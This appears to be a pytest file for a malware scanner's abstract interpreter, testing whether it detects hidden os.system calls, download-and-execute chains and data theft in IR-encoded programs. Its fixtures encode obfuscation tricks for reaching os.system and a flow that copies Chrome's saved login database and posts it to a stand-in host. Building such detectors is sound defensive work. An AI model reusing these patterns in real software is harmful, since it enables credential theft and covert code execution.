"""What the abstract machine makes of programs, written as IR text."""

import textwrap

import pytest

from scanner.analysis import analyse
from scanner.blob import Blob, Fragment
from scanner.errors import OverBudget
from scanner.facts import Effect, Flow
from scanner.irtext import parse
from scanner.knowledge.tables import knowledge
from scanner.limits import Budget, Limits
from scanner.site import Trigger

PICKLE = "language pickle\nunit offset\nentry main load\ndef main():\n"


def run(text: str, budget: Budget | None = None) -> list[Effect | Flow | Fragment | Blob]:
    return list(analyse(parse(text), knowledge(), budget or Budget()))


def effects(text: str) -> list[Effect]:
    """Those of the program itself, not of the command lines in it."""
    own = parse(text).trail
    return [f for f in run(text) if isinstance(f, Effect) and f.site.trail == own]


def flows(text: str) -> set[tuple[str, str]]:
    return {(f.source, f.effect.kind) for f in run(text) if isinstance(f, Flow)}


def pickled(*lines: str) -> str:
    return PICKLE + textwrap.indent("\n".join(lines), "  ") + "\n"


def test_effect_names_callee_arguments_and_place() -> None:
    [effect] = effects(pickled("%0 = name posix.system @3", "%1 = const 'id' @9", "%2 = call %0, %1 @20"))
    assert (effect.kind, effect.callee, effect.trigger) == ("process.spawn", "os.system", Trigger.LOAD)
    assert effect.site.offset == 20
    assert [a.text for a in effect.arguments] == ["'id'"]
    assert not effect.script


HIDDEN = {
    "getattr": ["%0 = name builtins.getattr", "%1 = name os", "%2 = const 'system'", "%3 = call %0, %1, %2"],
    "import_module": [
        "%0 = name importlib.import_module", "%1 = const 'os'", "%2 = call %0, %1", "%3 = attr %2, system",
    ],
    "concatenated": [
        "%0 = name builtins.getattr", "%1 = name os", "%4 = const 'sys'", "%5 = const 'tem'",
        "%2 = binary '+', %4, %5", "%3 = call %0, %1, %2",
    ],
    "joined": [
        "%0 = name builtins.getattr", "%1 = name os", "%4 = const ''", "%5 = const 'sys'", "%6 = const 'tem'",
        "%7 = make list, %5, %6", "%8 = name builtins.str.join", "%2 = call %8, %4, %7", "%3 = call %0, %1, %2",
    ],
    "resolve_name": ["%0 = name pkgutil.resolve_name", "%1 = const 'os:system'", "%3 = call %0, %1"],
    "locate": ["%0 = name pydoc.locate", "%1 = const 'os.system'", "%3 = call %0, %1"],
    "attrgetter": [
        "%0 = name operator.attrgetter", "%1 = const 'system'", "%2 = call %0, %1", "%4 = name os",
        "%3 = call %2, %4",
    ],
    "another module's import": ["%3 = name torch.os.system"],
    "modules table": [
        "%0 = name sys.modules", "%1 = const 'os'", "%2 = item %0, %1", "%3 = attr %2, system",
    ],
    "dict": ["%0 = name os.__dict__", "%1 = const 'system'", "%3 = item %0, %1"],
    "vars": ["%0 = name builtins.vars", "%1 = name os", "%2 = call %0, %1", "%4 = const 'system'", "%3 = item %2, %4"],
    "itemgetter": [
        "%0 = name operator.itemgetter", "%1 = const 'system'", "%2 = call %0, %1", "%4 = name os.__dict__",
        "%3 = call %2, %4",
    ],
    "base64": [
        "%0 = name builtins.getattr", "%1 = name os", "%4 = name base64.b64decode", "%5 = const b'c3lzdGVt'",
        "%6 = call %4, %5", "%7 = attr %6, decode", "%2 = call %7", "%3 = call %0, %1, %2",
    ],
    "rebound name": [
        "%0 = name collections", "%1 = name os.system", "setattr %0, OrderedDict, %1",
        "%3 = name collections.OrderedDict",
    ],
    "partial": ["%0 = name functools.partial", "%1 = name os.system", "%3 = call %0, %1"],
    "either": ["%0 = name os.system", "%1 = name builtins.print", "%3 = merge %0, %1"],
}  # fmt: skip


@pytest.mark.parametrize("way", HIDDEN)
def test_hidden_callee_is_found(way: str) -> None:
    found = effects(pickled(*HIDDEN[way], "%90 = const 'id'", "%91 = call %3, %90"))
    assert "os.system" in {e.callee for e in found if e.kind == "process.spawn"}


INDIRECT = {
    "map": ["%0 = name builtins.map", "%1 = name os.system", "%2 = const 'id'", "%3 = make list, %2", "%4 = call %0, %1, %3"],
    "methodcaller": [
        "%0 = name operator.methodcaller", "%1 = const 'system'", "%2 = const 'id'", "%3 = call %0, %1, %2",
        "%4 = name os", "%5 = call %3, %4",
    ],
    "a partial of a partial": [
        "%0 = name functools.partial", "%1 = name os.system", "%2 = const 'bound'", "%3 = call %0, %1, %2",
        "%4 = call %0, %3", "%5 = attr %4, func", "%6 = const 'id'", "%7 = call %5, %6",
    ],
    "thread": [
        "%0 = name threading.Thread", "%1 = name os.system", "%2 = const 'id'", "%3 = make tuple, %2",
        "%4 = call %0, target=%1, args=%3",
    ],
    "reduce": [
        "%0 = name functools.reduce", "%1 = name builtins.getattr", "%2 = name os", "%3 = const 'system'",
        "%4 = make list, %2, %3", "%5 = call %0, %1, %4", "%6 = const 'id'", "%7 = call %5, %6",
    ],
    "starmap": [
        "%0 = name itertools.starmap", "%1 = name os.system", "%2 = const 'id'", "%3 = make tuple, %2",
        "%4 = make list, %3", "%5 = call %0, %1, %4",
    ],
}  # fmt: skip


@pytest.mark.parametrize("way", INDIRECT)
def test_indirect_call_is_followed(way: str) -> None:
    found = [e for e in effects(pickled(*INDIRECT[way])) if e.kind == "process.spawn"]
    assert [(e.callee, e.arguments[0].text) for e in found] == [("os.system", "'id'")]


def test_reference_is_not_a_call() -> None:
    [effect] = effects(pickled("%0 = name os.system", "%1 = make list, %0"))
    assert effect.kind == "reference.held"


def test_taint_passes_through_helpers_containers_and_attributes() -> None:
    text = """
    script
    def main():
      %0 = define fetch
      store fetch, %0
      %1 = define act
      store act, %1
      %2 = call %0
      %3 = const 'k'
      %4 = make dict, %3, %2
      %5 = call %1, %4

    def fetch():
      %0 = name requests.get
      %1 = const 'https://example.org/x'
      %2 = call %0, %1
      %3 = attr %2, text
      return %3

    def act(box):
      %0 = load box
      %1 = const 'k'
      %2 = item %0, %1
      %3 = name builtins.exec
      %4 = call %3, %2
    """
    assert ("net.recv", "code.run") in flows(textwrap.dedent(text))


def test_file_remembers_what_was_written_into_it() -> None:
    text = """
    script
    def main():
      %0 = name requests.get
      %1 = const 'https://example.org/x'
      %2 = call %0, %1
      %3 = attr %2, content
      %4 = name builtins.open
      %5 = const '/tmp/stage'
      %6 = const 'wb'
      %7 = call %4, %5, %6
      %8 = attr %7, write
      %9 = call %8, %3
      %10 = name subprocess.Popen
      %11 = make list, %5
      %12 = call %10, %11
    """
    assert ("net.recv", "process.spawn") in flows(textwrap.dedent(text))


def test_secret_file_is_a_secret_source() -> None:
    text = """
    script
    def main():
      %0 = name os.path.join
      %1 = name os.environ
      %2 = const 'LOCALAPPDATA'
      %3 = item %1, %2
      %4 = const 'Google/Chrome/User Data/Default'
      %5 = const 'Login Data'
      %6 = call %0, %3, %4, %5
      %7 = name shutil.copy2
      %8 = const 'copy.db'
      %9 = call %7, %6, %8
      %10 = name builtins.open
      %11 = const 'rb'
      %12 = call %10, %8, %11
      %13 = attr %12, read
      %14 = call %13
      %15 = name requests.post
      %16 = const 'https://example.org/in'
      %17 = call %15, %16, data=%14
    """
    found = flows(textwrap.dedent(text))
    assert ("secret.read", "net.send") in found
    assert ("env.read", "net.send") not in found  # the folder came from the environment, the data did not


def test_constant_handed_to_exec_comes_back_as_a_fragment() -> None:
    found = run(pickled("%0 = name builtins.exec", "%1 = const 'import os'", "%2 = call %0, %1 @7"))
    [fragment] = [f for f in found if isinstance(f, Fragment)]
    assert fragment.language == "python"
    assert fragment.blob.read_at(0, 100) == b"import os"
    assert fragment.blob.trail == ("test.py", "builtins.exec @ 7")
    assert fragment.steps[-1].site.offset == 7


def test_loop_over_constants_is_computed() -> None:
    text = """
    def main():
      %0 = make list
      store out, %0
      %1 = const b'ne'
      loop
        %2 = iter %1
        %3 = const 7
        %4 = binary '^', %2, %3
        %5 = load out
        append %5, %4
      %6 = name builtins.bytes
      %7 = load out
      %8 = call %6, %7
      %9 = attr %8, decode
      %10 = call %9
      %11 = name os.system
      %12 = call %11, %10
    """
    spawn = next(e for e in effects(textwrap.dedent(text)) if e.kind == "process.spawn")
    assert spawn.arguments[0].text == "'ib'"


def test_functions_that_nobody_calls_run_only_when_called() -> None:
    text = """
    script
    def main():
      %0 = define later
      store later, %0

    def later():
      %0 = name os.system
      %1 = const 'id'
      %2 = call %0, %1
    """
    [effect] = effects(textwrap.dedent(text))
    assert effect.trigger is Trigger.CALL


def test_recursion_ends() -> None:
    text = """
    script
    def main():
      %0 = define f
      store f, %0
      %1 = const 'x'
      %2 = call %0, %1

    def f(a):
      %0 = load a
      %1 = binary '+', %0, %0
      %2 = load f
      %3 = call %2, %1
      return %3
    """
    assert run(textwrap.dedent(text)) == []


def test_budget_keeps_what_was_found() -> None:
    text = pickled("%0 = name os.system", "%1 = const 'id'", "%2 = call %0, %1", *["%3 = call %0, %1"] * 20)
    found = []
    with pytest.raises(OverBudget):
        for fact in analyse(parse(text), knowledge(), Budget(Limits(steps=30))):
            found.append(fact)
    assert any(isinstance(f, Effect) and f.kind == "process.spawn" for f in found)


def test_a_constant_is_looked_at_wherever_it_runs() -> None:
    """The same code in a part that no loader runs does not stand for the part that it does run."""
    text = """
    script
    entry aside never
    entry main load
    def main():
      %0 = name os.system
      %1 = const 'id'
      %2 = call %0, %1

    def aside():
      %0 = name os.system
      %1 = const 'id'
      %2 = call %0, %1
    """
    moments = {f.trigger for f in run(textwrap.dedent(text)) if isinstance(f, Fragment)}
    assert moments == {Trigger.NEVER, Trigger.LOAD}
